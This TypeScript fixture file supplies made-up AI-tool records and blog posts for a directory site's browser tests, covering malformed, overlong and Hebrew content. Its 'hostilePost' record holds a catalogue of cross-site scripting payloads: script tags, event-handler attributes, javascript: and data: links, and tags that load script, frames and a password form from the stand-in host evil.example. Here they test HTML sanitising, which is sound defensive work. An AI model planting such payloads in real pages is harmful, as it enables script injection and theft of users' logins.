import type { RawRecord } from '../support/records';

/** Relative: it belongs to the API host (article-4). */
export const soundLogo = '/pictures/logo.svg';

const number = (index: number) => String(index).padStart(2, '0');

/** 40 sound tools: 30 video tools (freemium, on the Web), then 10 chatbots. */
function soundTool(index: number): RawRecord {
  const isVideo = index <= 30;
  return {
    _id: `t${index}`,
    name: `${isVideo ? 'Video' : 'Chat'} Tool ${number(index)}`,
    slug: `tool-${number(index)}`,
    logo: soundLogo,
    description: `A made-up ${isVideo ? 'video' : 'chat'} tool with the number ${index}, for the browser tests.`,
    category: isVideo ? 'ai-video-generation' : 'ai-chatbots',
    subcategories: [index % 2 === 0 ? 'Even ones' : 'Odd ones'],
    pricingModel: 'freemium',
    pricing: 'Free, then $9 a month',
    features: ['**First** feature', 'Second feature', 'Third feature'],
    useCases: ['Testing'],
    tags: ['made-up'],
    industryFit: ['developers'],
    platforms: ['Web', 'API'],
    pros: ['Predictable'],
    cons: ['Not real'],
    websiteUrl: `https://tool-${number(index)}.example/?plan=a#top`,
    rating: 4.2,
    reviewCount: 12,
    viewCount: 1000,
    clickCount: 100,
    lastUpdated: '2026-01-15T00:00:00.000Z',
    editorVerdict: 'Made up, and good at it.',
  };
}

/** Records as careless servers send them; each misses, or misspells, something else. */
export const carelessTools: RawRecord[] = [
  {
    slug: 'only-name',
    name: 'Video Bare',
    category: 'ai-video-generation',
    pricingModel: 'freemium',
    platforms: ['Web'],
  },
  {
    _id: 'no-logo',
    name: 'Video Without Logo',
    slug: 'video-without-logo',
    category: 'ai-video-generation',
    pricingModel: 'freemium',
    platforms: ['Web'],
    rating: 3,
    logo: null,
  },
  {
    _id: 'no-rating',
    name: 'Video Without Rating',
    slug: 'video-without-rating',
    category: 'ai-video-generation',
    pricingModel: 'freemium',
    platforms: ['Web'],
    rating: 'good',
    reviewCount: null,
  },
  {
    _id: 'odd-lists',
    name: 'Video With Odd Lists',
    slug: 'video-odd-lists',
    category: 'ai-video-generation',
    pricingModel: 'freemium',
    platforms: ['Web'],
    features: 'one text',
    tags: [1, null, 'video'],
    testimonials: [null, { comment: 7 }],
    screenshots: {},
  },
];

/** A record of an unknown category, and two that cannot be used. */
export const strayTools: RawRecord[] = [
  {
    _id: 'stray',
    name: 'Video Stray',
    slug: 'video-stray',
    category: 'no-such-category',
    pricingModel: 'freemium',
  },
  { _id: 'nameless', slug: 'nameless' },
  { name: 'Neither Slug Nor Id' },
];

const longWord = 'Donaudampfschifffahrtsgesellschaftskapitaenswitwenrentenkasse';
const longText = `${'A long text that goes on and on, '.repeat(20)}${longWord.repeat(3)}.`;

/** A name of 60 characters without a space, one with spaces, and long texts in every field. */
export const longTools: RawRecord[] = [
  'W'.repeat(60),
  'Very Long Name of a Tool That Goes On Until Sixty Characters',
].map((name, index) => ({
  _id: `long-${index}`,
  name,
  slug: `long-${index}`,
  description: longText,
  shortDescription: longText,
  category: 'ai-video-generation',
  subcategories: [longWord, longText.slice(0, 120)],
  pricingModel: 'subscription',
  pricing: longText,
  features: [`**${longWord}** ${longText}`, longText, longWord],
  useCases: [longText, longWord],
  tags: [longWord, 'short', longText.slice(0, 80)],
  industryFit: [longWord],
  platforms: ['Web', longWord],
  pros: [longText, longWord],
  cons: [longText, longWord],
  integratedWith: [longWord, longText],
  languagesSupported: [longWord],
  systemRequirements: longText,
  websiteUrl: `https://long.example/${longWord}`,
  rating: 4.9,
  reviewCount: 123_456_789,
  viewCount: 123_456_789,
  clickCount: 123_456_789,
  reviewed: true,
  trending: true,
  featured: true,
  editorVerdict: longText,
  testimonials: [{ name: longWord, company: longWord, comment: longText }],
  sources: [
    { title: longWord, url: `https://${'w'.repeat(60)}.${'w'.repeat(60)}.example/`, checkedAt: '2026-10-07' },
    { title: longText, url: 'https://long.example/' },
  ],
  screenshots: ['/missing/screenshot-1.png', '/missing/screenshot-2.png'],
}));

/** A title of 300 characters without a space, one with spaces, and long texts in every field. */
export const longPosts: RawRecord[] = ['W'.repeat(300), longText.slice(0, 300)].map((title, index) => ({
  _id: `long-post-${index}`,
  title,
  slug: `long-${index}`,
  excerpt: longText,
  content: `<h2>${longWord}</h2><p>${longText}</p><pre>${longText}</pre><p>${longWord.repeat(3)}</p><table><tr>${`<td>${longWord}</td>`.repeat(9)}</tr></table>`,
  category: longText.slice(0, 90),
  tags: [longWord, longText.slice(0, 90)],
  author: longText.slice(0, 90),
  publishedAt: `2026-01-0${index + 1}T00:00:00.000Z`,
  featured: true,
}));

export const soundTools: RawRecord[] = Array.from({ length: 40 }, (_, index) => soundTool(index + 1));

export const soundPosts: RawRecord[] = Array.from({ length: 6 }, (_, index) => ({
  _id: `p${index + 1}`,
  title: `Made-up post ${index + 1}`,
  slug: `post-${index + 1}`,
  excerpt: 'A post for the browser tests.',
  content: '<p>Text.</p>',
  category: 'Tools Roundup',
  tags: ['made-up'],
  publishedAt: `2026-01-0${index + 1}T00:00:00.000Z`,
}));

/** An article that tries what articles try; `hacked...` on the window tells which attempt has worked. */
export const hostilePost: RawRecord = {
  _id: 'hostile',
  title: 'Hostile',
  slug: 'hostile',
  excerpt: '<img src=x onerror="window.hackedExcerpt=1">',
  category: '<script>window.hackedCategory=1</script>',
  tags: ['"><script>window.hackedTag=1</script>'],
  publishedAt: '2026-01-05T00:00:00.000Z',
  coverImage: 'javascript:window.hackedCover=1',
  content: [
    '<script>window.hackedScript=1</script>',
    '<script src="https://evil.example/run.js"></script>',
    '<p>Start</p><img src="/not-there.png" alt="" onerror="window.hackedImage=1">',
    '<svg onload="window.hackedSvg=1"><script>window.hackedSvgScript=1</script></svg>',
    '<math><mtext><table><mglyph><style><img src onerror="window.hackedMath=1"></style></mglyph></table></mtext></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.hackedFrame=1</script>"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/style.css"><style>header { display: none }</style>',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:window.hackedForm=1">Go</button></form>',
    '<p><a href="javascript:window.hackedLink=1">Press me</a></p>',
    '<a href="data:text/html,<script>window.hackedData=1</script>">Data</a>',
    '<details open ontoggle="window.hackedToggle=1"><summary>More</summary>Text</details>',
    '<video autoplay onloadstart="window.hackedVideo=1"><source src="/not-there.mp4" onerror="window.hackedSource=1"></video>',
    '<div id="main" style="position:fixed;inset:0;z-index:9999;background:red">Over the page</div>',
    '<p>The end of the hostile text.</p>',
  ].join('\n'),
};

/** An article in Hebrew, with a title of two lines. */
export const rightToLeftPost: RawRecord = {
  _id: 'rtl',
  title: 'כלים של בינה מלאכותית לעבודה היומיומית במשרד',
  slug: 'rtl',
  excerpt: 'סקירה קצרה של הכלים.',
  category: 'Tools Roundup',
  tags: ['עברית'],
  publishedAt: '2026-01-05T00:00:00.000Z',
  content:
    '<p>זוהי הפסקה הראשונה של המאמר.</p><ul><li>כלי ראשון</li><li>כלי שני</li></ul><blockquote>ציטוט</blockquote>' +
    '<table><tr><th>שם</th><th>מחיר</th></tr><tr><td>אחד</td><td>10</td></tr></table>',
};
